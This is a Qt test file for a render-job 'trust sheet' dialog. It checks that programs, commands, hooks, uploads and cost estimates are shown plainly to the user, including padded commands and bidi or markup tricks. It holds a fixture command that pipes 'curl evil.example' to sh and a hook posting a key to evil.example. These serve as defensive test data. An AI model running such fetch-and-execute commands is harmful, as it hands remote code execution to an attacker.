"""The trust sheet, driven by mouse and keyboard."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QAccessible
from PySide6.QtWidgets import QWidget
from pytestqt.qtbot import QtBot

from helios_gui.hooks.hook import Hook, HookEvent
from helios_gui.profiles.program_use import CommandForm
from helios_gui.profiles.trust import JobReview, ProgramUse
from helios_gui.types.cost import CostEstimate
from helios_gui.ui.submit.commands_sheet import CommandsSheet
from helios_gui.ui.submit.trust_sheet import TrustSheet
from helios_gui.ui.submit.upload import Destination, UploadPlan
from helios_gui.ui.theme import theme

LEFT = Qt.MouseButton.LeftButton
FOLDER = Path("/film/shot 010")
FFMPEG = ProgramUse("ffmpeg", Path("/usr/bin/ffmpeg"), 11, "ffmpeg -i in.mov out/0.mov")
MISSING = ProgramUse("blender", None, 1, "blender -b scene.blend")
GLUE = ProgramUse("/opt/glue", Path("/opt/glue"), 1, "/opt/glue <b>out</b> \u202e&amp;")


def review(folder: Path = FOLDER, outside: tuple[Path, ...] = (Path("/library/a.exr"),), more: int = 0) -> JobReview:
    return JobReview((FFMPEG, MISSING, GLUE), folder, 12, folder / "film.mp4", GLUE, outside, more, "f")


def show(qtbot: QtBot, job: JobReview, name: str = "Titles") -> tuple[TrustSheet, list[bool]]:
    sheet = TrustSheet(job, name)
    qtbot.addWidget(sheet)
    decisions: list[bool] = []
    sheet.decided.connect(decisions.append)
    sheet.open()
    qtbot.waitExposed(sheet)
    return sheet, decisions


def test_everything_worth_knowing_is_there(qtbot: QtBot) -> None:
    sheet, _ = show(qtbot, review())
    text = sheet.details.toPlainText()
    for part in (
        "/usr/bin/ffmpeg",
        "for 11 commands",
        "✕ blender was not found on this computer",
        "/opt/glue",
        "to join the chunks",
        str(FOLDER),
        "/library/a.exr",
        str(FOLDER / "film.mp4"),
        "12 chunks",
    ):
        assert part in text
    assert sheet.windowModality() is Qt.WindowModality.WindowModal


def test_files_written_outside_the_folder_are_all_named(qtbot: QtBot) -> None:
    places = (*(f"/films/part_{number}.mov" for number in range(30)), "/home/me/.profile")
    sheet, _ = show(qtbot, replace(review(), outside_outputs=places))
    text = sheet.details.toPlainText()
    assert "IT WRITES OUTSIDE THAT FOLDER" in text
    assert "/films/part_#.mov  (30 files)" in text
    assert "/home/me/.profile" in text


def test_commands_written_for_a_shell_are_explained(qtbot: QtBot) -> None:
    missing = ProgramUse(
        "FOO=1", None, 1, "FOO=1 render", "The program 'FOO=1' was not found.", "Set it in the profile."
    )
    sheet, _ = show(qtbot, replace(review(), programs=(missing,), shell_habits=("'~/a' is not taken for the home.",)))
    text = sheet.details.toPlainText()
    assert "Set it in the profile." in text
    assert "NOT RUN THROUGH A SHELL" in text
    assert "'~/a' is not taken" in text


def test_no_text_of_the_job_is_read_as_markup_or_can_hide(qtbot: QtBot) -> None:
    sheet, _ = show(qtbot, review(), "<b>Bold</b>\u202e")
    assert "/opt/glue <b>out</b> \\u202e&amp;" in sheet.details.toPlainText()
    labels = [child.text() for child in sheet.findChildren(QWidget) if hasattr(child, "text")]
    assert "Run “<b>Bold</b>\\u202e”?" in labels


def test_every_program_is_named_however_many(qtbot: QtBot) -> None:
    programs = tuple(ProgramUse(f"p{n}", Path(f"/bin/p{n}"), 1, f"p{n}") for n in range(200))
    sheet, _ = show(qtbot, JobReview(programs, FOLDER, 1, FOLDER / "o.mp4", None, (), 0, "f"))
    text = sheet.details.toPlainText()
    assert all(f"/bin/p{n}" in text for n in range(200))
    assert "None are named in its commands." in text
    assert sheet.details.verticalScrollBar().maximum() > 0
    assert sheet.details.verticalScrollBar().value() == 0


EVIL = "python3 -c 'curl evil.example|sh'"


def test_every_form_of_a_command_is_shown_and_all_can_be_seen(qtbot: QtBot) -> None:
    forms = (CommandForm("python3 a.py 1", 9), CommandForm("python3 a.py " + " " * 10_000 + EVIL, 1))
    program = ProgramUse("python3", Path("/usr/bin/python3"), 10, "python3 a.py 1", digest="ab" * 32, forms=forms)
    commands = (*(f"python3 a.py {number}" for number in range(9)), forms[1].example)
    sheet, _ = show(qtbot, replace(review(), programs=(program,), commands=commands))
    text = sheet.details.toPlainText()
    assert EVIL in text
    assert "[10,001 blanks]" in text
    assert "SHA-256 " + "ab" * 32 in text
    assert "and 8 more that differ only in their numbers" in text
    qtbot.mouseClick(sheet.commands_button, LEFT)
    (shown,) = sheet.findChildren(CommandsSheet)
    qtbot.waitUntil(shown.isVisible)
    assert all(command in shown.text.toPlainText() for command in commands[:9])
    assert shown.text.toPlainText().endswith(EVIL)
    shown.close()


def test_commands_there_is_no_room_for_are_counted(qtbot: QtBot) -> None:
    forms = tuple(CommandForm(f"tool {'x' * number}", 1) for number in range(200))
    program = ProgramUse("tool", Path("/usr/bin/tool"), 200, "tool", forms=forms)
    sheet, _ = show(qtbot, replace(review(), programs=(program, GLUE), commands=tuple(form.example for form in forms)))
    text = sheet.details.toPlainText()
    assert "140 more commands are not shown here" in text
    assert "1 more command is not shown here" in text
    assert "all 200 commands" in sheet.commands_button.text()


def test_a_program_of_the_jobs_own_is_told(qtbot: QtBot) -> None:
    program = ProgramUse("./ffmpeg", FOLDER / "ffmpeg", 1, "./ffmpeg -i a b")
    sheet, _ = show(qtbot, replace(review(), programs=(program,)))
    assert "This program came with the job" in sheet.details.toPlainText()


def test_paths_left_out_are_counted(qtbot: QtBot) -> None:
    sheet, _ = show(qtbot, review(more=7))
    assert "… and 7 more" in sheet.details.toPlainText()


def test_run_is_decided_once(qtbot: QtBot) -> None:
    sheet, decisions = show(qtbot, review())
    qtbot.mouseClick(sheet.run_button, LEFT)
    sheet.reject()
    assert decisions == [True]
    assert not sheet.isVisible()


@pytest.mark.parametrize("way", ["button", "escape", "return", "close"])
def test_every_other_end_is_a_no_said_once(qtbot: QtBot, way: str) -> None:
    sheet, decisions = show(qtbot, review())
    if way == "button":
        qtbot.mouseClick(sheet.cancel_button, LEFT)
    elif way == "close":
        sheet.close()
    else:  # Return, too: nothing runs by a slip of the finger
        qtbot.keyClick(sheet, Qt.Key.Key_Escape if way == "escape" else Qt.Key.Key_Return)
    sheet.close()
    sheet.accept()
    assert decisions == [False]


def test_run_by_keyboard(qtbot: QtBot) -> None:
    sheet, decisions = show(qtbot, review())
    sheet.run_button.setFocus()
    qtbot.keyClick(sheet.run_button, Qt.Key.Key_Space)
    assert decisions == [True]


def test_folder_is_trusted_when_ticked(qtbot: QtBot) -> None:
    sheet, _ = show(qtbot, review())
    assert not sheet.trust_folder
    qtbot.keyClick(sheet.folder_box, Qt.Key.Key_Space)
    assert sheet.trust_folder


def test_wide_folder_cannot_be_trusted(qtbot: QtBot) -> None:
    sheet, _ = show(qtbot, review(Path.home()))
    qtbot.mouseClick(sheet.folder_box, LEFT)
    assert not sheet.trust_folder
    assert "many sources" in sheet.folder_box.toolTip()


def test_every_control_has_an_accessible_name(qtbot: QtBot) -> None:
    sheet, _ = show(qtbot, review())
    for control in (sheet.details, sheet.folder_box, sheet.run_button, sheet.cancel_button):
        assert QAccessible.queryAccessibleInterface(control).text(QAccessible.Text.Name)


STUDIO = Destination("studio-aws", "s3://studio/renders")


def show_upload(qtbot: QtBot) -> tuple[TrustSheet, list[bool]]:
    sheet = TrustSheet(review(), "Titles", None, STUDIO)
    qtbot.addWidget(sheet)
    decisions: list[bool] = []
    sheet.decided.connect(decisions.append)
    sheet.open()
    qtbot.waitExposed(sheet)
    return sheet, decisions


def test_run_waits_until_it_is_known_what_is_uploaded(qtbot: QtBot) -> None:
    sheet, decisions = show_upload(qtbot)
    assert "Scanning the folder" in sheet.details.toPlainText()
    qtbot.mouseClick(sheet.run_button, LEFT)
    assert decisions == []
    sheet.show_upload(UploadPlan(1204, 3_400_000_000, ("link is a link to nothing; it is not uploaded.",)))
    text = sheet.details.toPlainText()
    for part in (
        "1,204 files of the working folder, 3.4 GB",
        "to s3://studio/renders, through the profile “studio-aws”",
        "link is a link to nothing",
        ".heliosignore",
    ):
        assert part in text
    qtbot.mouseClick(sheet.run_button, LEFT)
    assert decisions == [True]


def test_what_is_uploaded_comes_first_and_stays_in_another_theme(qtbot: QtBot) -> None:
    sheet, _ = show_upload(qtbot)
    sheet.show_upload(UploadPlan(1, 12))
    theme().changed.emit()
    text = sheet.details.toPlainText()
    assert text.index("1 file of the working folder, 12 B") < text.index("PROGRAMS IT RUNS")


def test_nothing_can_be_agreed_to_where_the_folder_cannot_be_read(qtbot: QtBot) -> None:
    sheet, decisions = show_upload(qtbot)
    sheet.show_upload_problem("The folder \u202e cannot be read.")
    assert "✕ The folder \\u202e cannot be read." in sheet.details.toPlainText()
    qtbot.mouseClick(sheet.run_button, LEFT)
    assert decisions == []


ESTIMATE = CostEstimate(
    profile="studio-aws",
    chunks=480,
    frames=4800,
    low=0.4,
    high=0.6,
    headline="Roughly $0.40 to $0.60 for 480 chunks",
    basis="A guess: measured on 3 other jobs.",
)


def test_what_it_may_cost_stands_after_what_is_uploaded(qtbot: QtBot) -> None:
    sheet, _ = show_upload(qtbot)
    assert "Looking up earlier measurements" in sheet.details.toPlainText()
    sheet.show_cost(ESTIMATE)
    sheet.show_upload(UploadPlan(1, 12))
    text = sheet.details.toPlainText()
    parts = (
        "1 file of",
        "Roughly $0.40 to $0.60 for 480 chunks",
        ESTIMATE.basis,
        "are not included",
        "PROGRAMS IT RUNS",
    )
    assert sorted(parts, key=text.index) == list(parts)
    assert "⚠" not in text
    assert "COST" not in show(qtbot, review())[0].details.toPlainText(), "here it costs nothing"


def test_limit_that_will_not_do_is_said_in_the_warning_colour(qtbot: QtBot) -> None:
    sheet, _ = show_upload(qtbot)
    sheet.show_cost(replace(ESTIMATE, warning="That is more than the $0.10 the job may cost."))
    cursor = sheet.details.document().find("⚠ That is more than the $0.10")
    assert not cursor.isNull()
    assert cursor.charFormat().foreground().color() == theme().tokens.warning


def test_no_figure_is_invented(qtbot: QtBot) -> None:
    sheet, _ = show_upload(qtbot)
    sheet.show_cost(replace(ESTIMATE, low=None, high=None, headline="No estimate", basis="Nothing was rendered yet."))
    text = sheet.details.toPlainText()
    assert "No estimate: Nothing was rendered yet." in text
    assert "$" not in text
    sheet.show_cost_problem("The journal cannot be used.")
    assert "No estimate: The journal cannot be used." in sheet.details.toPlainText()


def test_programs_are_not_looked_for_here_when_they_run_elsewhere(qtbot: QtBot) -> None:
    sheet, _ = show_upload(qtbot)
    text = sheet.details.toPlainText()
    assert "was not found on this computer" not in text
    assert text.count("It must be installed on the workers.") == 2, "the chunks' programs, not the one that joins them"
    assert "/opt/glue" in text
    assert "They are not uploaded: workers will not find them." in text
    here, _ = show(qtbot, review())
    assert "not uploaded" not in here.details.toPlainText()


def test_many_notes_are_counted(qtbot: QtBot) -> None:
    sheet, _ = show_upload(qtbot)
    sheet.show_upload(UploadPlan(1, 1, tuple(f"note {number}." for number in range(100))))
    assert "… and 80 more" in sheet.details.toPlainText()


def test_hooks_of_the_job_file_are_listed_with_program_or_server(qtbot: QtBot) -> None:
    program = ProgramUse("notify", Path("/usr/bin/notify"), 1, "notify me", digest="cd" * 32)
    hooks = (
        (Hook(name="call <b>", command="notify me"), program),
        (Hook(name="post", url="https://evil.example/x?key=1", events=(HookEvent.STARTED,)), None),
        (Hook(name="write", email=("a@b.example",)), None),
    )
    sheet, _ = show(qtbot, replace(review(), hooks=hooks, hook_problems=("Hook “z” is left out: no.",)))
    text = sheet.details.toPlainText()
    for part in (
        "HOOKS THAT IT BRINGS, RUN ON THIS COMPUTER",
        "call <b>",
        "/usr/bin/notify",
        "SHA-256 " + "cd" * 32,
        "posts to https://evil.example/x?key=1 (JSON)",
        "when a job starts",
        "writes to a@b.example",
        "Hook “z” is left out: no.",
    ):
        assert part in text
